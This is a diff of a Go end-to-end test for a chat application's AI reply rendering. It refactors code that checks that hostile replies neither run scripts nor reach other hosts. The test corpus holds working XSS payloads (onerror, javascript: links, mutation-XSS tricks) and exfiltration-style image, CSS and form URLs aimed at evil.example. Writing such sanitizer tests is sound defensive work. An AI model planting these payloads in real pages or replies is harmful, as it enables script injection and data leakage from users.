@@ -8,27 +8,32 @@ import (
 	"parley/internal/ai/aitest"
 )
 
-// hostile is a text that must stay a text, wherever it is shown.
+// hostile must be shown as text everywhere.
 const hostile = `<img src=x onerror="window.hit=1"><svg onload="window.hit=1"><script>window.hit=1</script>"'>`
 
-// corpus are replies that try to run something, or to fetch something from elsewhere.
+// corpus is replies that try to run a script or to fetch something from another host.
 var corpus = []string{
 	hostile,
 	"[click](javascript:window.hit=1) <javascript:window.hit=1> [data](data:text/html,<script>window.hit=1</script>)",
 	"![x](https://evil.example/leak.png?q=secret) ![x](//evil.example/a) <img src=https://evil.example/b>",
-	"<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object><embed src=https://evil.example/>",
-	"<link rel=stylesheet href=https://evil.example/a.css><style>@import url(https://evil.example/b.css);</style><base href=https://evil.example/>",
+	"<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object>" +
+		"<embed src=https://evil.example/>",
+	"<link rel=stylesheet href=https://evil.example/a.css><style>@import url(https://evil.example/b.css);</style>" +
+		"<base href=https://evil.example/>",
 	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hit=1&gt;\">",
-	"<svg><foreignObject><body onload=window.hit=1></foreignObject></svg><svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+	"<svg><foreignObject><body onload=window.hit=1></foreignObject></svg>" +
+		"<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
 	"<a href=\"jav&#x09;ascript:window.hit=1\">x</a> <a xlink:href=javascript:window.hit=1>y</a>",
 	"<form action=https://evil.example/><button>Log in</button><input name=password></form>",
 	"<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=https://evil.example/a>",
-	"$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/tex.png}$ $\\htmlData{onclick=window.hit=1}{x}$",
+	"$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/tex.png}$ " +
+		"$\\htmlData{onclick=window.hit=1}{x}$",
 	"```html\n<script>window.hit=1</script>\n```\n`<img src=x onerror=window.hit=1>`",
 	"```\"><img src=x onerror=window.hit=1>\ncode\n```",
 	"[ref]: javascript:window.hit=1\n[ref] ![pic][p]\n\n[p]: https://evil.example/ref.png",
 	"<div style=\"background:url(https://evil.example/css.png)\">x</div>",
-	"<template><script>window.hit=1</script></template><noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
+	"<template><script>window.hit=1</script></template>" +
+		"<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
 }
 
 func TestNothingHostileRunsOrReachesAnotherHost(t *testing.T) {
@@ -41,7 +46,8 @@ func TestNothingHostileRunsOrReachesAnotherHost(t *testing.T) {
 		}
 		return aitest.Say("?")
 	})
-	out, err := w.api.Register(t.Context(), parley.RegisterInput{Email: email, Password: password, Nickname: hostile[:60]})
+	user := parley.RegisterInput{Email: email, Password: password, Nickname: hostile[:60]}
+	out, err := w.api.Register(t.Context(), user)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -49,7 +55,10 @@ func TestNothingHostileRunsOrReachesAnotherHost(t *testing.T) {
 	if _, err := w.api.Upload(t.Context(), session, hostile+".txt", strings.NewReader(hostile)); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := w.api.Send(t.Context(), parley.SendInput{SessionID: session, Content: "search", ReplyOptions: parley.ReplyOptions{WebSearch: true}}); err != nil {
+	search := parley.SendInput{
+		SessionID: session, Content: "search", ReplyOptions: parley.ReplyOptions{WebSearch: true},
+	}
+	if _, err := w.api.Send(t.Context(), search); err != nil {
 		t.Fatal(err)
 	}
 	messages, err := w.api.Messages(t.Context(), session, parley.Page{Number: 1, Size: 200})
@@ -57,18 +66,20 @@ func TestNothingHostileRunsOrReachesAnotherHost(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, m := range messages.Messages {
-		if _, err := w.api.AddFavorite(t.Context(), parley.AddFavoriteInput{MessageID: m.ID, SessionID: session}); err != nil {
-			t.Fatal(err)
-		}
+		w.favorite(t, session, m.ID)
 	}
 
 	b := signedIn(t, w, out.Token, "#/chat/"+session, 1280)
-	b.until(`document.querySelectorAll("article[data-state=stored]").length === ` + "34")
+	b.until(`document.querySelectorAll("article[data-state=stored]").length === 34`)
 	b.eval(`document.querySelector("button.files").click()`)
 	b.until(`document.querySelector("aside li")`)
 	b.until(`document.querySelector(".assistant .katex")`)
-	b.eval(`document.querySelectorAll("article a[href]").forEach(a => { if (!/^(https?|mailto):/.test(a.href)) throw new Error(a.outerHTML) })`)
-	b.eval(`if (document.querySelector("article :is(img, script, iframe, object, embed, form, input, video, audio, style, link)")) throw new Error("a forbidden element")`)
+	b.eval(`document.querySelectorAll("article a[href]").forEach(a => {
+		if (!/^(https?|mailto):/.test(a.href)) throw new Error(a.outerHTML)
+	})`)
+	b.eval(`const forbidden = "img, script, iframe, object, embed, form, input, video, audio, style, link"
+		const found = document.querySelector("article :is(" + forbidden + ")")
+		if (found) throw new Error(found.outerHTML)`)
 	b.eval(`location.hash = "#/favorites"`)
 	b.until(`document.querySelectorAll("section li").length >= 20`)
 	b.eval(`location.hash = "#/settings"`)
@@ -76,7 +87,7 @@ func TestNothingHostileRunsOrReachesAnotherHost(t *testing.T) {
 	if value[bool](b, `"hit" in window`) {
 		t.Error("something ran")
 	}
-	b.quiet(w.url)
+	b.checkQuiet(w.url)
 }
 
 func TestHugeAndDeepTextsLeaveThePageUsable(t *testing.T) {
@@ -90,21 +101,16 @@ func TestHugeAndDeepTextsLeaveThePageUsable(t *testing.T) {
 		strings.Repeat("*a **b ", 20_000),
 		strings.Repeat("<b>", 50_000),
 	}
-	asked := 0
-	w.model.Answer(func(aitest.Request) []aitest.Step {
-		asked++
-		return aitest.Say(texts[asked-1])
-	})
 	questions := make([]string, len(texts))
-	for i := range questions {
+	for i, text := range texts {
 		questions[i] = "q"
+		w.model.Script(aitest.Say(text)...)
 	}
 	session := w.talk(t, "", questions...)
 	b := signedIn(t, w, token, "#/chat/"+session, 1280)
 	b.until(`document.querySelectorAll("article[data-state=stored]").length === 12`)
-	asked = 0
 	w.model.Answer(func(aitest.Request) []aitest.Step { return aitest.Say("still here") })
 	b.ask("hello")
 	b.shows("still here")
-	b.quiet(w.url)
+	b.checkQuiet(w.url)
 }
